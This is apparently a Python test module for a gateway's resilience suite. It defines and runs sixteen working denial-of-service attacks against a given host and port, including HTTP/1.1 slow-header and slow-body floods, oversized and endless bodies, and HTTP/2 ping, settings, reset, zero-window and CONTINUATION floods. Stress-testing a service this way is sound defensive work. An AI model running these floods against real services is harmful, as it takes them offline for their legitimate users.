"""Clients that try to end the service for all others: `python -m tests.attacks.attackers NAME HOST:PORT` until killed.

It prints a line once the attack is under way. It runs as a process of its own, so that an innocent client beside it is
slowed down by the gateway alone.
"""

import asyncio
import sys
from collections.abc import Callable, Mapping
from dataclasses import dataclass

import hpack

from souk_gateway.frames import PREFACE, Flag, Kind, frame

FROM = "127.0.0.66"
"""The attacker's address: a limit for each address is of no use to who shares it with the innocent."""
_AGAIN_S = 0.25
_BEGUN_S = 2.0
"""After so long an attack counts as under way, also where it is refused."""
_BLOCK = hpack.Encoder().encode(
    [(":method", "GET"), (":scheme", "http"), (":authority", "souk"), (":path", "/openapi.json")], huffman=False
)
_HOST = b"Host: souk\r\n"
_ORDER = b"POST /v1/orders HTTP/1.1\r\n" + _HOST + b"Content-Type: application/json\r\n"
_PAGE = b"GET /openapi.json HTTP/1.1\r\n" + _HOST + b"\r\n"
_HTTP2 = PREFACE + frame(Kind.SETTINGS, 0, 0)
_WINDOW_0 = PREFACE + frame(Kind.SETTINGS, 0, 0, b"\0\4\0\0\0\0")


def _nothing(_: int) -> bytes:
    return b""


def always(data: bytes) -> Callable[[int], bytes]:
    return lambda _: data


@dataclass(frozen=True)
class Attack:
    """So many connections, each of which sends `opening`, and then again and again, `every_s`, what `then` gives for
    1, 2, 3 and so on. A connection that the gateway ends is opened anew. What comes back is read only if `reads`."""

    connections: int
    opening: bytes
    then: Callable[[int], bytes] = _nothing
    every_s: float = 0.5
    reads: bool = False


def _streams(count: int, behind: Callable[[int], bytes] = _nothing) -> Callable[[int], bytes]:
    """Requests over HTTP/2, so many at a time."""

    def requests(round_: int) -> bytes:
        ids = range(2 * count * (round_ - 1) + 1, 2 * count * round_, 2)
        return b"".join(frame(Kind.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, n, _BLOCK) + behind(n) for n in ids)

    return requests


ATTACKS: Mapping[str, Attack] = {
    "idle connections": Attack(1100, b""),
    "connections that come and go": Attack(20, _PAGE, lambda _: b"\n", 0.01),
    "slow heads": Attack(300, b"GET /v1/items HTTP/1.1\r\nX: ", always(b"x")),
    "slow bodies": Attack(600, _ORDER + b"Content-Length: 64000\r\n\r\n" + b" " * 63_000, always(b" ")),
    "bodies without an end": Attack(
        20, _ORDER + b"Transfer-Encoding: chunked\r\n\r\n", always(b"400\r\n" + b" " * 1024 + b"\r\n"), 0.005
    ),
    "bodies of 100 GB": Attack(50, _ORDER + b"Content-Length: 100000000000\r\nExpect: 100-continue\r\n\r\n"),
    "answers that are not read": Attack(150, _PAGE * 100, always(_PAGE * 10), 0.1),
    "malformed heads": Attack(20, b"GET  / HTTP/1.1\r\n\r\n", always(b"x" * 4096), 0.01),
    "quotes that do not end": Attack(
        10, b"", always(_ORDER + b"Prefer: " + b'"\\' * 7000 + b"\r\nContent-Length: 2\r\n\r\n{}"), 0.02, reads=True
    ),
    "HTTP/2: pings": Attack(10, _HTTP2, always(frame(Kind.PING, 0, 0, bytes(8)) * 500), 0.01),
    "HTTP/2: settings": Attack(10, _HTTP2, always(frame(Kind.SETTINGS, 0, 0) * 500), 0.01),
    "HTTP/2: priorities": Attack(
        10,
        _HTTP2,
        lambda n: b"".join(frame(Kind.PRIORITY, 0, 2 * (500 * n + m) + 1, bytes(5)) for m in range(500)),
        0.01,
    ),
    "HTTP/2: resets": Attack(10, _HTTP2, _streams(100, lambda n: frame(Kind.RST_STREAM, 0, n, bytes(4))), 0.01),
    "HTTP/2: windows of 0": Attack(100, _WINDOW_0, _streams(32), 1.0, reads=True),
    "HTTP/2: heads without an end": Attack(
        10, _HTTP2 + frame(Kind.HEADERS, 0, 1, _BLOCK), always(frame(Kind.CONTINUATION, 0, 1, bytes(1024)) * 10), 0.01
    ),
    "HTTP/2: malformed requests": Attack(
        10, _HTTP2, lambda n: frame(Kind.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, 2 * n + 1, _BLOCK[:-3]), 0.01
    ),
}


async def attack(how: Attack, host: str, port: int, begun: Callable[[], None]) -> None:
    """Attacks until it is cancelled."""
    left = how.connections

    async def connection() -> None:
        nonlocal left
        is_first = True
        while True:
            try:
                reader, writer = await asyncio.open_connection(host, port, local_addr=(FROM, 0))
            except OSError:
                await asyncio.sleep(_AGAIN_S)
                continue
            try:
                writer.write(how.opening)
                await writer.drain()
                if is_first:
                    is_first, left = False, left - 1
                    if not left:
                        begun()
                await _go_on(how, reader, writer)
            except OSError:  # the gateway has had enough
                pass
            finally:
                writer.transport.abort()
            await asyncio.sleep(_AGAIN_S if how.connections > 50 else 0.02)

    async with asyncio.TaskGroup() as tasks:
        for _ in range(how.connections):
            tasks.create_task(connection())
        await asyncio.sleep(_BEGUN_S)
        begun()


async def _go_on(how: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    reading = asyncio.create_task(_read(reader)) if how.reads else None
    try:
        round_ = 0
        while not writer.transport.is_closing() and not reader.at_eof():
            round_ += 1
            writer.write(how.then(round_))
            await writer.drain()
            await asyncio.sleep(how.every_s)
    finally:
        if reading is not None:
            reading.cancel()


async def _read(reader: asyncio.StreamReader) -> None:
    while await reader.read(65536):
        pass


def main(name: str, address: str) -> None:
    host, _, port = address.rpartition(":")
    said = False

    def begun() -> None:
        nonlocal said
        if not said:
            said = True
            print("begun", flush=True)

    asyncio.run(attack(ATTACKS[name], host, int(port), begun))


if __name__ == "__main__":
    main(*sys.argv[1:])
